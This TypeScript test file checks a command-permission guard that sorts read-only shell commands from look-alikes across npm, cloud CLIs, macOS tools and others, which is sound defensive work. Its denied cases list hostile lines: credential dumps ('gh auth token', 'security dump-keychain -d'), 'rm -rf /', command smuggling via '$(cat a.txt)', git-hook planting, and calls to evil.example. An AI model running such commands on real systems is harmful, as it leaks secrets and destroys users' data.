import { describe, expect, it } from "vitest";
import { place } from "./place.ts";

/**
 * Lines that only look, as people and agents type them, and beside each family the lines that look like them and do more.
 * Nothing of this is installed here: the tables say what the manuals say.
 */
const here = place({ "a.yaml": "a: 1\n", "x.yml": "", "lib/a.py": "", "src/a.py": "", ".env": "KEY=1", "~/.netrc": "" });

interface Family {
  readonly looks: readonly string[];
  /** Asked, refused or left to the host; never allowed. */
  readonly more: readonly string[];
}

const FAMILIES: Readonly<Record<string, Family>> = {
  git: { looks: ["git -v", "git --version"], more: ["git -v push --force", "git -v -c core.pager=./evil log"] },
  npm: {
    looks: [
      "npm outdated",
      "npm view react versions",
      "npm ls --depth=0",
      "npm access get status @me/x",
      "npm access list packages",
      "npm owner ls x",
      "npm dist-tag ls react",
      "npm diff --diff=left-pad@1.0.0 --diff=left-pad@1.1.0",
      "npm config get registry",
    ],
    more: [
      "npm diff",
      "npm diff --diff=https://evil.example/a.tgz --diff=b@1",
      "npm diff --diff=./evil --diff=b@1",
      "npm access set status=public x",
      "npm access grant read-write me:team x",
      "npm config get //registry.npmjs.org/:_authToken",
      "npm get _password",
      "npm config get $(cat a.txt)",
      "npm owner add me x",
      "npm dist-tag rm react next",
    ],
  },
  "pnpm and yarn": {
    looks: [
      "pnpm -v",
      "pnpm --version",
      "pnpm outdated",
      "pnpm ls --depth 0",
      "pnpm why react",
      "pnpm -r outdated",
      "yarn --version",
      "yarn why react",
      "yarn list",
    ],
    more: [
      "pnpm -C /tmp/evil outdated",
      "pnpm outdated --dir /tmp/evil",
      "pnpm --pnpmfile ./evil.cjs ls",
      "echo 'module.exports={}' > .pnpmfile.cjs; pnpm -v",
      "yarn --cwd /tmp/evil list",
      "yarn",
      "pnpm add x",
      "pnpm config get //registry.npmjs.org/:_authToken",
      "yarn config get npmAuthToken",
      "pnpm store prune",
    ],
  },
  "uv and poetry": {
    looks: [
      "uv help",
      "uv help pip compile",
      "uv pip list",
      "uv pip show x",
      "uv python list",
      "poetry env info",
      "poetry check",
      "poetry config --list",
      "poetry env list",
    ],
    more: [
      "poetry show",
      "uv pip list --python ./evil",
      "uv pip install x",
      "uv pip uninstall x",
      "uv tree",
      "poetry config http-basic.x u p",
      "poetry config --list virtualenvs.in-project true",
      "poetry env remove --all",
      "poetry run evil",
    ],
  },
  "mypy, prettier, composer, dotnet": {
    looks: [
      "prettier --check src",
      "prettier -l .",
      "composer audit",
      "composer show --tree",
      "composer outdated --direct",
      "dotnet --info",
      "dotnet --version",
      "dotnet tool list -g",
    ],
    more: [
      "mypy src",
      "mypy --install-types src",
      "mypy --python-executable ./evil src",
      "mypy --config-file evil.ini src",
      "mypy --junit-xml out.xml src",
      "prettier --plugin ./evil.mjs .",
      "prettier --config ./evil.mjs .",
      "prettier --write .",
      "composer -d /tmp/x install",
      "composer require x/y",
      "composer run-script x",
      "dotnet build",
      "dotnet list package",
      "eslint .",
    ],
  },
  terraform: {
    looks: [
      "terraform validate",
      "terraform fmt -check -diff",
      "terraform fmt -write=false -diff",
      "terraform providers",
      "terraform output",
      "terraform show",
      "terraform state list",
    ],
    more: [
      "terraform fmt -diff",
      "terraform fmt -write=false -write=true",
      "terraform output db_password",
      "terraform output -raw x",
      "terraform output -json",
      "terraform show -json",
      "terraform state pull",
      "terraform state rm x",
      "terraform providers lock",
      "terraform console",
    ],
  },
  "helm and kubectl": {
    looks: [
      "helm repo ls",
      "helm --version",
      "helm list -A",
      "helm status x",
      "kubectl annotate pod x --list",
      "kubectl label --list nodes x",
      "kubectl config get-contexts",
    ],
    more: [
      "helm get values x",
      "helm get manifest x",
      "helm get all x",
      "helm repo remove x",
      "kubectl annotate pod x a=b",
      "kubectl annotate pod x a=b --list",
      "kubectl annotate --list pod x a-",
      "kubectl label pod x $(cat a.txt) --list",
      "kubectl config view --raw",
      "kubectl get secret x -o yaml",
    ],
  },
  yq: {
    looks: ["yq eval a.yaml", "yq eval .a a.yaml", "yq e '.a' a.yaml", "yq ea . a.yaml x.yml", "yq a.yaml"],
    more: [
      "yq eval -i .a=1 a.yaml",
      "yq e -i .a=1 a.yaml",
      "yq eval . .env",
      "yq eval .env",
      "yq .env",
      "yq eval 'env(KEY)' a.yaml",
      "yq eval 'load(\".env\")' a.yaml",
      "yq env a.yaml",
    ],
  },
  "cargo, rustup and go": {
    looks: [
      "cargo help build",
      "cargo help",
      "cargo build --help",
      "rustup completions bash",
      "rustup show active-toolchain",
      "go tool",
      "go tool dist list",
      "go clean -n",
      "go clean -n -cache ./...",
    ],
    more: [
      "cargo help evil-plugin",
      "cargo nextest --help",
      "cargo c",
      "cargo evil help",
      "rustup run evil help",
      "go tool evil",
      "go tool -n evil",
      "go clean",
      "go clean -n -testcache",
      "go clean -n=false",
      "go clean -x",
    ],
  },
  systemctl: {
    looks: ["systemctl log-level", "systemctl log-target", "systemctl service-log-level nginx"],
    more: [
      "systemctl log-level debug",
      "systemctl log-target null",
      "systemctl service-log-level nginx debug",
      "systemctl service-watchdogs no",
    ],
  },
  openssl: {
    looks: [
      "openssl prime 17",
      "openssl prime -generate -bits 64",
      "openssl speed",
      "openssl speed -evp aes-128-cbc",
      "openssl info -configdir",
    ],
    more: [
      "openssl speed -engine ./evil.so",
      "openssl prime -provider ./evil 7",
      "openssl prime -in .env",
      "openssl genpkey -algorithm ed25519 -out k",
    ],
  },
  "brew and conda": {
    looks: [
      "brew info wget",
      "brew info --json=v2 openssl@3",
      "brew deps --tree jq",
      "conda compare x.yml",
      "conda list -n x",
      "conda info --envs",
      "conda search numpy",
      "conda env export",
    ],
    more: [
      "brew info ./evil.rb",
      "brew info evil.rb",
      "brew info evil/tap/x",
      "brew info https://evil.example/x.rb",
      "brew cat $(cat a.txt)",
      "conda compare .env",
      "conda info --unsafe-channels",
      "conda env export --file x.yml",
      "conda config --set ssl_verify false",
      "conda run -n x evil",
    ],
  },
  sort: {
    looks: ["sort -T src a.txt", "sort --temporary-directory=src a.txt"],
    more: [
      "sort -T ~ a.txt",
      "sort -T .git/hooks a.txt",
      "sort -T ~/.ssh a.txt",
      "sort -T $D a.txt",
      "sort -T src -o b.txt a.txt",
      "sort -T .git a.txt",
    ],
  },
  ansible: {
    looks: [
      "ansible --version",
      "ansible all --list-hosts",
      "ansible-doc copy",
      "ansible-doc -l",
      "ansible-config dump",
      "ansible-galaxy collection list",
      "ansible-inventory --graph",
    ],
    more: [
      "ansible all -m shell -a 'rm -rf /'",
      "ansible all -i ./evil.py --list-hosts",
      "ansible @.env --list-hosts",
      "ansible-inventory --list",
      "ansible-inventory --host x",
      "ansible-inventory -i ./evil --graph",
      "ansible-playbook --list-tasks x.yml",
      "ansible-doc --playbook-dir /tmp/evil -t filter x",
      "ansible-doc -M ./evil x",
      "ansible-galaxy install x",
      "ansible-vault view x.yml",
      "touch ansible.cfg; ansible all --list-hosts",
    ],
  },
  "packer, k9s, auth0, rabbitmqctl, btrfs": {
    looks: [
      "packer version",
      "packer validate .",
      "packer inspect x.pkr.hcl",
      "packer fmt -check .",
      "k9s info",
      "k9s version",
      "auth0 apps list",
      "auth0 users search -q x",
      "rabbitmqctl list_users",
      "rabbitmqctl status",
      "btrfs filesystem usage /",
      "btrfs fi show",
    ],
    more: [
      "packer build .",
      "packer fmt .",
      "packer validate -evaluate-datasources .",
      "packer console",
      "k9s",
      "auth0 apps show x --reveal-secrets",
      "auth0 apps delete x",
      "auth0 api get clients",
      "auth0 test token",
      "rabbitmqctl eval 'os:cmd(\"id\").'",
      "rabbitmqctl environment",
      "rabbitmqctl -n evil@evil.example list_users",
      "rabbitmqctl delete_user x",
      "btrfs subvolume delete x",
      "btrfs device stats -z /",
    ],
  },
  "clouds' tools": {
    looks: [
      "aws ec2 describe-volumes --volume-ids v1 v2",
      "aws ec2 describe-security-groups --group-names x --output table --profile p --region r",
      "aws eks describe-nodegroup --cluster-name c --nodegroup-name n --query 'nodegroup.status'",
      "aws iam list-attached-role-policies --role-name x",
      "aws s3api list-objects-v2 --bucket b --start-after x",
      "aws rds describe-db-clusters --db-cluster-identifier x",
      "aws route53 list-resource-record-sets --hosted-zone-id Z",
      "gcloud compute snapshots describe x",
      "gcloud pubsub topics describe x",
      "gcloud secrets versions list x",
      "gcloud kms keys describe x",
      "az vm list-ip-addresses",
      "az network vnet subnet list -g g --vnet-name v",
      "az keyvault key list --vault-name v",
      "az deployment group list -g g",
    ],
    more: [
      "aws cloudfront get-function --name x out.js",
      "aws s3api get-object --bucket b --key k ~/.bashrc",
      "aws mediastore-data get-object --path x out",
      "aws ec2 describe-volumes --volume-ids file://.env",
      "aws ec2 describe-volumes --volume-ids v --endpoint-url https://evil.example",
      "aws ec2 describe-volumes --frobnicate x",
      "aws configure get aws_secret_access_key",
      "aws configure export-credentials",
      "aws secretsmanager get-secret-value --secret-id x",
      "aws ssm get-parameters-by-path --path /x --with-decryption",
      "aws lambda list-versions-by-function --function-name x",
      "aws ecs describe-task-definition --task-definition x",
      "aws ec2 describe-vpn-connections",
      "aws ecr get-login",
      "aws sts get-session-token",
      "aws apprunner describe-service --service-arn x",
      "aws s3 cp s3://b/k .git/hooks/pre-commit",
      "gcloud auth print-access-token",
      "gcloud auth print-identity-token",
      "gcloud secrets versions access latest --secret x",
      "gcloud redis instances get-auth-string x",
      "gcloud compute ssh list",
      "gcloud compute instances delete list",
      "gcloud compute frobnicate list",
      "az account get-access-token",
      "az keyvault secret show -n x --vault-name v",
      "az cosmosdb keys list -n x",
      "az redis list-keys -n x",
      "az containerapp show -n x",
      "az group delete --name list",
      "az vm list --frobnicate x",
      "az rest --url x",
    ],
  },
  macOS: {
    looks: [
      "networksetup -getinfo Wi-Fi",
      "networksetup -listallnetworkservices",
      "networksetup -getairportnetwork en0",
      "diskutil list",
      "diskutil info disk0",
      "diskutil apfs list",
      "profiles list",
      "profiles show -type configuration",
      "hdiutil info",
      "softwareupdate -l",
      "defaults read com.apple.finder",
      "scutil --get ComputerName",
      "sw_vers",
      "pmset -g",
      "launchctl list",
      "launchctl print system",
      "mdfind -name x",
      "mdls a.txt",
      "mdutil -s /",
      "plutil -p a.txt",
      "csrutil status",
      "nvram -p",
      "fdesetup status",
      "systemsetup -gettimezone",
      "system_profiler SPHardwareDataType",
    ],
    more: [
      "networksetup -setdnsservers Wi-Fi 6.6.6.6",
      "networksetup -frobnicate",
      "diskutil eraseDisk APFS x disk2",
      "diskutil apfs deleteVolume disk1s5",
      "diskutil frobnicate",
      "profiles remove -all",
      "profiles install -path x.mobileconfig",
      "hdiutil attach x.dmg",
      "hdiutil create -srcfolder src x.dmg",
      "hdiutil imageinfo .env",
      "softwareupdate -ia",
      "softwareupdate -l -i x",
      "defaults write com.apple.finder x y",
      "scutil --set HostName x",
      "launchctl load x.plist",
      "mdutil -s -E /",
      "plutil -convert json a.txt",
      "csrutil disable",
      "nvram x=y",
      "fdesetup disable",
      "systemsetup -setremotelogin on",
      "security find-generic-password -w -s x",
      "security find-internet-password -g -s x",
      "security dump-keychain -d",
    ],
  },
  "gh and others": {
    looks: [
      "gh run list --status failure",
      "gh config get editor",
      "gh issue develop --list 5",
      "gh secret list",
      "ps -F",
      "ip l sh",
      "journalctl -b -1",
      "fd --format '{}' a",
      "ls | fzf -f a",
    ],
    more: [
      "gh config get oauth_token -h github.com",
      "gh auth token",
      "gh auth status --show-token",
      "gh issue develop 5",
      "gh secret set x -b y",
      "ip l set eth0 down",
      "fd --format '{}' a -x rm",
      "ls | fzf --bind 'enter:execute(id)'",
      "ls | fzf -f x --preview 'rm -rf ~'",
      "top -p 1",
    ],
  },
};

describe.each(Object.entries(FAMILIES))("%s", (_name, { looks, more }) => {
  it.each(looks)("allowed: %s", (command) => {
    const { decision, reason } = here.verdict(command);
    expect(`${decision} ${decision === "allow" ? "" : reason}`).toBe("allow ");
  });
  it.each(more)("not allowed: %s", (command) => {
    expect(here.verdict(command).decision).not.toBe("allow");
  });
});

/** What a project's own files can make of a program that only looks. */
describe.each([
  ["pnpm -v", { "package.json": '{"packageManager":"pnpm@9.0.0"}' }],
  ["pnpm outdated", { ".pnpmfile.cjs": "" }],
  ["pnpm why x", { "pnpm-workspace.yaml": "packages:\n  - a\nconfigDependencies:\n  evil: 1\n" }],
  ["pnpm ls", { ".npmrc": "global-pnpmfile=./evil.cjs\n" }],
  ["yarn --version", { ".yarnrc.yml": "yarnPath: ./evil.cjs\n" }],
  ["yarn list", { ".yarnrc": 'yarn-path "./evil.js"\n' }],
  ["cd src && yarn why x", { ".yarnrc.yml": "" }],
  ["uv pip list", { ".venv/pyvenv.cfg": "" }],
  ["uv pip show x", { "env39/pyvenv.cfg": "" }],
  ["poetry check", { "pyproject.toml": '[tool.poetry.requires-plugins]\nevil = "*"\n' }],
  ["poetry env info", { "venv/x": "" }],
  ["poetry about", { ".poetry/plugins/evil/x": "", "pyproject.toml": "" }],
  ["poetry --version", { ".poetry/plugins/evil/x": "", "pyproject.toml": "" }],
  ["poetry config --list", { "pyproject.toml": '[tool.poetry.requires-plugins]\nevil = "*"\n' }],
  ["poetry config --list -C src", { "src/.poetry/plugins/evil/x": "" }],
  ["poetry -C src --version", { "src/.poetry/plugins/evil/x": "" }],
  ["prettier --check .", { ".prettierrc": '{"plugins":["./evil.mjs"]}' }],
  ["prettier --check src", { "package.json": '{"prettier": "./evil.mjs"}' }],
  ["composer audit", { "vendor/x/y": "" }],
  ["composer show", { "composer.json": '{"config":{"vendor-dir":"evil"}}' }],
  ["dotnet --info", { "global.json": '{"sdk":{"paths":["./evil"]}}' }],
  ["cd src && dotnet --version", { "global.json": "{}" }],
  ["ansible all --list-hosts", { "ansible.cfg": "[defaults]\ninventory=./evil.py\n" }],
  ["ansible-doc -t filter x", { "filter_plugins/evil.py": "" }],
  ["packer version", { "packer-plugin-evil": "" }],
])("%s with %j", (command, files: Readonly<Record<string, string>>) => {
  const there = place(files);
  it("is left to the host", () => {
    expect(there.verdict(command).decision).not.toBe("allow");
  });
});

describe("a folder's plain configuration takes nothing away", () => {
  const there = place({
    "package.json": '{"name":"x","dependencies":{"prettier-plugin-x":"1"}}',
    ".npmrc": "registry=https://registry.npmjs.org/\nsave-exact=true\n# x\n",
    "pnpm-workspace.yaml": "packages:\n  - packages/*\n",
    "pyproject.toml": '[tool.mypy]\nstrict = true\n[tool.poetry]\nname = "x"\n',
    "composer.json": "{}",
  });
  it.each(["pnpm -v", "pnpm outdated", "poetry check", "composer audit", "prettier --check src"])("%s", (command) => {
    expect(there.verdict(command).decision).toBe("allow");
  });
});

describe("cargo fmt reads what the manifest names", () => {
  it.each([
    ["cargo fmt --check", { "Cargo.toml": '[package]\nname = "x"\n[dependencies]\ny = { path = "../y" }\n', ".env": "" }, "allow"],
    ["cargo fmt --check", { "Cargo.toml": '[lib]\npath = ".env"\n', ".env": "" }, "deny"],
    ["cd src && cargo fmt --check", { "Cargo.toml": "[[bin]]\npath='.env'\n", ".env": "", "src/x": "" }, "deny"],
    ["cd src && cargo fmt", { "Cargo.toml": "", "src/x": "" }, "ask"],
  ] as const)("%s with %j", (command, files, decision) => {
    expect(place(files).verdict(command).decision).toBe(decision);
  });
});

describe("what is asked is said in words that are true", () => {
  it.each([
    ["top", /interactive/],
    ["htop -d 5", /interactive/],
    ["fzf", /interactive/],
    ["terraform output x", /secrets/],
    ["helm get values x", /secrets/],
    ["aws s3api get-object --bucket b --key k out", /out|file/],
    ["aws secretsmanager get-secret-value --secret-id x", /secrets/],
    ["hdiutil attach x.dmg", /machine|service/],
    ["rabbitmqctl add_user a b", /queue/],
    ["rabbitmqctl list_shovels", /secrets/],
  ])("%s", (command, words) => {
    const { decision, reason } = here.verdict(command);
    expect(decision).toBe("ask");
    expect(reason).toMatch(words);
    expect(reason).not.toMatch(/can run code/);
  });
});
